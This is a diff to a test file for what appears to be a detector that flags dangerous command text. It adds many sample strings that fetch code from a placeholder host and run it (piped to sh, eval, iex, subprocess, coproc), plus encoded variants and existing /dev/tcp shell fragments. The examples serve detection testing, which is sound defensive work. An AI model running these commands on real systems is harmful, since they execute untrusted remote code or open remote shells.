@@ -208,6 +208,23 @@ describe("the words of the extended profile", () => {
     "import(`data:${x}`)",
     "bash </dev/tcp/h/1",
     "bash </dev/udp/h/1",
+    "GET https://x.example/a | sh",
+    "GET https://x.example/a >a",
+    "GET https://x.example/a\n> a",
+    "http POST x.example/a <b >a",
+    "eval `GET https://x.example/a`",
+    "`GET https://x.example/a`",
+    "bash <(GET https://x.example/a)",
+    "coproc GET https://x.example/a",
+    "for /f %i in ('GET https://x.example/a') do %i",
+    "http -o a https://x.example/a",
+    'spawn("http", ["--output=a", "https://x.example/a"])',
+    "exec('GET https://x.example/a')",
+    "subprocess.check_output(['GET', 'https://x.example/a'])",
+    "$x = GET https://x.example/a; iex $x",
+    "GET https://x.example/a &vert; sh",
+    "GET%20https://x.example/a%20%7C%20sh",
+    "GET https://x.example/a \\u007c sh",
   ])("open the gate for %j", (text) => {
     expect(engine.gate.opens(text)).toBe(true);
   });
@@ -216,9 +233,32 @@ describe("the words of the extended profile", () => {
     "setTimeout(err.data)",
     "import(x) and { data: 1 }",
     "see https://x.example/dev/library/x.html",
+    "GET https://x.example/a",
+    "GET https://x.example/a || true",
+    "on('GET', '/a/b', (a) => a >= 1)",
+    '<form method="GET" action="/a/b"><b>a</b></form>',
+    "import { a } from 'http'; // see a.example/b",
   ])("keep it closed for %j", (text) => {
     expect(engine.gate.opens(text)).toBe(false);
   });
+});
+
+it("backticks use the output of a command in code, and are around inline code in prose", async () => {
+  const options = { queries: [], replaceQueries: false, disabledRules: [], languages: [] };
+  const engine = await createEngine(await loadAssets(), "extended", options);
+  const isOpen = (part: string): boolean => {
+    const start = "Text.\n\n";
+    const spans = [
+      [0, start.length],
+      [start.length, start.length + part.length],
+    ] as const;
+    return engine.gate.closedParts(start + part, () => spans) !== null;
+  };
+  expect(isOpen("```\n`GET https://x.example/a`\n```\n")).toBe(true);
+  expect(isOpen("Ask `GET https://x.example/a` for it.\n")).toBe(false);
+  expect(isOpen("    `GET https://x.example/a`\n")).toBe(true);
+  expect(isOpen("<pre>`GET https://x.example/a`</pre>\n")).toBe(true);
+  engine.dispose();
 });
 
 describe("the closed parts of a text", () => {
